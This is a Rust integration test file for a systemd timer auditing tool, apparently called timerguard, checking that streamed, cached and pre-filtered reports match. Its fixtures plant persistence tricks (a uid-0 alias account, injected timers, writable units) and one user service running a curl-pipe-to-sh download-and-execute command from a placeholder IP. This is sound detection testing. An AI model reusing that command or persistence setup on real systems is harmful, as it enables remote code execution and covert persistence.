//! `check` reads user scopes one at a time (memory flat in the number of users); the
//! report must be byte for byte the one of reading the whole host first
//! (`TIMERGUARD_NO_STREAM=1`), on the planted fixtures and on a generated corpus; and
//! the policies' native pre-filters change nothing (`TIMERGUARD_NO_PREFILTER=1` calls
//! every `check` on every subject).

use std::process::Command;

use crate::common::*;

fn report(root: &std::path::Path, stream: bool) -> (i32, Vec<u8>) {
    report_with(root, if stream { &[] } else { &[("TIMERGUARD_NO_STREAM", "1")] })
}

fn report_with(root: &std::path::Path, env: &[(&str, &str)]) -> (i32, Vec<u8>) {
    report_args(root, env, &[])
}

fn report_args(root: &std::path::Path, env: &[(&str, &str)], args: &[&str]) -> (i32, Vec<u8>) {
    let mut c = Command::new(env!("CARGO_BIN_EXE_timerguard"));
    c.arg("--root").arg(root).args(["check", "--format", "json", "--fail-on", "info"]).args(args);
    c.envs(env.iter().copied());
    let o = c.output().unwrap();
    (o.status.code().unwrap(), o.stdout)
}

/// `list`'s exit code, stdout and stderr (its warnings): streamed from the inventory,
/// or from the whole host's facts.
type Listed = (Option<i32>, Vec<u8>, Vec<u8>);

fn list(root: &std::path::Path, stream: bool, format: &str) -> Listed {
    let mut c = Command::new(env!("CARGO_BIN_EXE_timerguard"));
    c.arg("--root").arg(root).args(["list", "--format", format]);
    if !stream {
        c.env("TIMERGUARD_NO_STREAM", "1");
    }
    let o = c.output().unwrap();
    (o.status.code(), o.stdout, o.stderr)
}

/// `list` from the inventory is `list` from the whole host's facts: rows, warnings and
/// exit code, in both formats.
fn same_list(label: &str, root: &std::path::Path) {
    for f in ["json", "text"] {
        let (a, b) = (list(root, true, f), list(root, false, f));
        assert!(
            a == b,
            "{label}: list --format {f} differs:\n{}{}\n---\n{}{}",
            String::from_utf8_lossy(&a.1),
            String::from_utf8_lossy(&a.2),
            String::from_utf8_lossy(&b.1),
            String::from_utf8_lossy(&b.2)
        );
    }
}

fn same(label: &str, root: &std::path::Path) {
    same_list(label, root);
    let (a, b) = (report(root, true), report(root, false));
    assert_eq!(a.0, b.0, "{label}: exit codes");
    assert!(
        a.1 == b.1,
        "{label}: reports differ:\n{}\n---\n{}",
        String::from_utf8_lossy(&a.1),
        String::from_utf8_lossy(&b.1)
    );
    let unfiltered = report_with(root, &[("TIMERGUARD_NO_PREFILTER", "1")]);
    assert!(unfiltered == a, "{label}: the pre-filters changed the report");
    let v: serde_json::Value = serde_json::from_slice(&a.1).unwrap();
    assert!(!v["findings"].as_array().unwrap().is_empty(), "{label}: something was found");
}

#[test]
fn streamed_and_whole_host_reports_are_identical_on_planted_fixtures() {
    same("planted", planted().path());
    let fx = planted();
    fx.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n")
        .file("/home/alice/.config/systemd/user/sync.timer", &timer("hourly"))
        .file("/home/alice/.config/systemd/user/sync.service", &service("/home/alice/bin/sync"))
        .link("/home/alice/.config/systemd/user/timers.target.wants/sync.timer", "../sync.timer")
        .mode("/home/alice/.config/systemd/user", 0o777)
        .file("/home/bob/.local/share/systemd/user/x.timer", &timer("daily"))
        .file("/home/bob/.config/systemd/user/timer.d/all.conf", "[Timer]\nPersistent=true\n")
        .file("/etc/systemd/system/root.timer", &timer("daily"))
        .file("/etc/systemd/system/root.service", &service("/home/bob/run.sh"))
        .link("/etc/systemd/system/timers.target.wants/root.timer", "../root.timer")
        // What the pre-filters look at: a linked unit whose real file is writable, a
        // service drop-in, entries writable or owned by someone else, in both kinds of scope.
        .file("/opt/units/linked.service", &service("/usr/bin/true"))
        .mode("/opt/units/linked.service", 0o666)
        .link("/etc/systemd/system/linked.service", "/opt/units/linked.service")
        .file("/etc/systemd/system/root.service.d/exec.conf", "[Service]\nExecStartPre=/bin/true\n")
        .mode("/etc/systemd/system/root.timer", 0o664)
        .owner("/home/alice/.config/systemd/user/sync.service", 1001, 1001)
        .mode("/home/alice/.config/systemd/user/sync.timer", 0o646)
        // Paths one user's scope would take for its own, named by another's: bob's unit
        // runs a script in alice's (group-writable) bin, and carol's unit directory is a
        // link into alice's home.
        .file("/home/alice/bin/shared/tool", "#!/bin/sh\n")
        .mode("/home/alice/bin/shared", 0o775)
        .file("/home/bob/.config/systemd/user/use.timer", &timer("daily"))
        .file("/home/bob/.config/systemd/user/use.service", &service("/home/alice/bin/shared/tool"))
        .link("/home/bob/.config/systemd/user/timers.target.wants/use.timer", "../use.timer")
        .dir("/home/alice/carol-units")
        .mode("/home/alice/carol-units", 0o777)
        .file("/home/alice/carol-units/c.timer", &timer("weekly"))
        .dir("/home/carol/.config/systemd")
        .link("/home/carol/.config/systemd/user", "/home/alice/carol-units")
        .dir("/home/carol/.local/share/systemd")
        .link("/home/carol/.local/share/systemd/user", "/home/alice/.config")
        .file("/home/alice/.config/systemd/user/own.service", &service("/home/alice/bin/own"))
        .dir("/home/alice/bin/units")
        .link("/home/carol/.config/systemd/user.control", "/home/alice/bin/units");
    let passwd = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n\
                  bob:x:1001:1001::/home/bob:/bin/bash\ncarol:x:1002:1002::/home/carol:/bin/bash\n";
    fx.file("/etc/passwd", passwd);
    same("users", fx.path());
    // What the chains say of every path (unit_dir, owners), shown by a policy of our own.
    let pol = tempfile::tempdir().unwrap();
    std::fs::write(
        pol.path().join("chains.rhai"),
        r#"const POLICY = #{ id: "XX901", name: "chains", title: "chains", severity: "info", mitigations: [],
            tags: [], targets: ["path"], remediation: "", references: [], params: #{} };
        fn check(p, ctx) {
            let who = p.user_owners.map(|o| `${o.uid}:${o.user}`);
            violation("seen", `${p.path} chain=${p.unit_chain} dir=${p.unit_dir} owners=${who}`)
        }"#,
    )
    .unwrap();
    let args = ["--policies", pol.path().to_str().unwrap()];
    let (a, b) = (report_args(fx.path(), &[], &args), report_args(fx.path(), &[("TIMERGUARD_NO_STREAM", "1")], &args));
    assert!(a == b, "chains differ:\n{}\n---\n{}", String::from_utf8_lossy(&a.1), String::from_utf8_lossy(&b.1));
    let v: serde_json::Value = serde_json::from_slice(&a.1).unwrap();
    let seen = |m: &str| v["findings"].as_array().unwrap().iter().any(|f| f["message"] == m);
    // alice's own unit runs from ~/bin, which carol's unit directory makes a unit chain.
    assert!(seen("/home/alice/bin chain=true dir=false owners=[]"), "{v:#}");
    assert!(!seen("/home/alice/bin chain=false dir=false owners=[]"), "{v:#}");
}

/// `list` collects only what it shows (no package provenance, generators, entry
/// inventory or metadata of what services run); on real Debian roots, with their package
/// databases, it lists what the whole host's facts list, warnings included.
#[test]
fn list_reads_only_what_it_shows_and_shows_the_same_on_real_roots() {
    let roots: Vec<String> =
        ["TIMERGUARD_DEBIAN_ROOT", "TIMERGUARD_SERVER_ROOT"].iter().filter_map(|v| std::env::var(v).ok()).collect();
    if roots.is_empty() {
        skip("neither TIMERGUARD_DEBIAN_ROOT nor TIMERGUARD_SERVER_ROOT is set (scripts/test.sh builds them)");
        return;
    }
    for root in &roots {
        let root = std::path::Path::new(root);
        same_list(&root.display().to_string(), root);
        for f in ["json", "text"] {
            let (code, out, err) = list(root, true, f);
            assert_eq!(code, Some(0), "{}: {}", root.display(), String::from_utf8_lossy(&err));
            assert!(
                String::from_utf8_lossy(&out).contains("apt-daily.timer"),
                "{}: Debian's timers are listed",
                root.display()
            );
        }
    }
}

#[test]
fn streamed_and_whole_host_reports_are_identical_on_a_corpus() {
    if !is_root() {
        skip("make_corpus.sh needs root");
        return;
    }
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/benches/corpus/make_corpus.sh");
    let d = tempfile::tempdir().unwrap();
    let root = d.path().join("c");
    let o = Command::new("bash").args([script, root.to_str().unwrap(), "120"]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let made = std::time::Instant::now();
    same("corpus of 120 users", &root);
    // And a report reused by `check --cache` is the fresh one, byte for byte. A cache is
    // only written for files changed more than a second before the run (a change within
    // the timestamps' resolution could go unseen): the corpus must be that old first,
    // however fast the checks above were.
    if let Some(rest) = std::time::Duration::from_millis(1100).checked_sub(made.elapsed()) {
        std::thread::sleep(rest);
    }
    let cache = d.path().join("check.cache");
    let args = ["--cache", cache.to_str().unwrap()];
    let fresh = report_args(&root, &[], &[]);
    let kept = report_args(&root, &[], &args);
    assert!(cache.exists(), "the cache was written");
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .arg("--root")
        .arg(&root)
        .args(["check", "--format", "json", "--fail-on", "info"])
        .args(args)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&o.stderr).contains("cache: nothing changed"), "reused");
    let reused = (o.status.code().unwrap(), o.stdout);
    assert!(kept == fresh && reused == fresh, "a cached report differs from the fresh one");
}

/// The timer pre-filters (`injected`, `trigger_problems`, `service_loads`, `inline_code`,
/// `sets_user`, `state`, `never_elapses`) each let through every timer their policy
/// reports: a fixture with a finding of each, checked with and without them.
#[test]
fn timer_pre_filters_keep_every_finding() {
    let fx = Fx::new();
    fx.debian_layout()
        .file(
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        )
        .file("/etc/group", "root:x:0:\nalice:x:1000:\n");
    let enable = |name: &str| {
        fx.link(&format!("/etc/systemd/system/timers.target.wants/{name}"), &format!("../{name}"));
    };
    // TG305 uid0-alias: User= names another uid-0 account.
    fx.file("/etc/systemd/system/hid.timer", &timer("daily"))
        .file("/etc/systemd/system/hid.service", "[Service]\nUser=toor\nExecStart=/usr/bin/true\n");
    enable("hid.timer");
    // TG310 timer-injected: linked into timers.target.wants without an [Install] that says so.
    fx.file("/etc/systemd/system/inj.timer", "[Timer]\nOnCalendar=daily\n")
        .file("/etc/systemd/system/inj.service", &service("/usr/bin/true"));
    enable("inj.timer");
    // TG401 missing-unit, TG402 invalid-trigger, TG404 never.
    fx.file(
        "/etc/systemd/system/miss.timer",
        "[Timer]\nOnCalendar=daily\nUnit=nothere.service\n[Install]\nWantedBy=timers.target\n",
    );
    enable("miss.timer");
    fx.file(
        "/etc/systemd/system/bad.timer",
        "[Timer]\nOnCalendar=not-a-time\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
    )
    .file("/etc/systemd/system/bad.service", &service("/usr/bin/true"));
    enable("bad.timer");
    fx.file("/etc/systemd/system/never.timer", &timer("2001-01-01 00:00:00"))
        .file("/etc/systemd/system/never.service", &service("/usr/bin/true"));
    enable("never.timer");
    // A user's unit with User=root (TG305) running an inline payload (TG303), and a
    // transient user timer (TG204).
    fx.file("/home/alice/.config/systemd/user/ur.timer", &timer("hourly"))
        .file(
            "/home/alice/.config/systemd/user/ur.service",
            "[Service]\nUser=root\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/p | sh'\n",
        )
        .link("/home/alice/.config/systemd/user/timers.target.wants/ur.timer", "../ur.timer")
        .file("/run/user/1000/systemd/transient/run-u1.timer", "[Timer]\nOnActiveSec=30\nUnit=run-u1.service\n")
        .file("/run/user/1000/systemd/transient/run-u1.service", &service("/usr/bin/true"));
    let a = report_with(fx.path(), &[]);
    let unfiltered = report_with(fx.path(), &[("TIMERGUARD_NO_PREFILTER", "1")]);
    assert!(
        unfiltered == a,
        "the pre-filters changed the report:\n{}\n---\n{}",
        String::from_utf8_lossy(&a.1),
        String::from_utf8_lossy(&unfiltered.1)
    );
    let v: serde_json::Value = serde_json::from_slice(&a.1).unwrap();
    let found = policy_rule_subject(&v);
    for (policy, rule, subject) in [
        ("TG305", "uid0-alias", "hid.timer"),
        ("TG305", "user-unit-user-root", "ur.timer"),
        ("TG310", "timer-injected", "inj.timer"),
        ("TG401", "missing-unit", "miss.timer"),
        ("TG402", "invalid-trigger", "bad.timer"),
        ("TG404", "never", "never.timer"),
        ("TG303", "download-and-execute", "ur.timer"),
        ("TG204", "transient", "run-u1.timer"),
    ] {
        assert!(
            found.iter().any(|f| f.0 == policy && f.1 == rule && f.2 == subject),
            "no {policy}/{rule} on {subject}: {found:?}"
        );
    }
}

/// `TIMERGUARD_PROFILE=1` says where the time goes on stderr, phase by phase in the
/// order they run, and changes nothing of the report.
#[test]
fn the_profile_names_each_phase_in_order_and_changes_no_report() {
    let fx = planted();
    let plain = report_with(fx.path(), &[]);
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .arg("--root")
        .arg(fx.path())
        .args(["check", "--format", "json", "--fail-on", "info"])
        .env("TIMERGUARD_PROFILE", "1")
        .output()
        .unwrap();
    assert_eq!((o.status.code().unwrap(), o.stdout), plain, "the profile changed the report");
    let err = String::from_utf8_lossy(&o.stderr);
    let phases: Vec<(f64, &str)> = err
        .lines()
        .filter_map(|l| l.strip_prefix("profile phase "))
        .map(|l| {
            let (ms, what) = l.split_once(" ms  ").unwrap();
            (ms.trim().parse().unwrap(), what)
        })
        .collect();
    // How many paths were left for the end is said with the phase that checks them.
    let names: Vec<&str> = phases.iter().map(|p| p.1.split(':').next().unwrap_or_default()).collect();
    let want = [
        "policies compiled",
        "accounts read",
        "system and global scopes collected",
        "generators and provenance",
        "shared scopes read",
        "paths left for the end",
        "user scopes read and checked",
        "report written",
    ];
    // The shared scopes' check runs beside the user scopes: anywhere after they are read.
    let ordered: Vec<&str> = names.iter().copied().filter(|n| *n != "shared scopes checked").collect();
    assert_eq!(ordered, want, "{err}");
    assert!(names.contains(&"shared scopes checked"), "{err}");
    assert!(phases.windows(2).all(|w| w[0].0 <= w[1].0), "times only grow: {err}");
    assert!(err.lines().any(|l| l.starts_with("profile TG")), "each policy's calls follow: {err}");
    let quiet = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .arg("--root")
        .arg(fx.path())
        .arg("list")
        .env_remove("TIMERGUARD_PROFILE")
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&quiet.stderr).contains("profile"), "off unless asked");
}
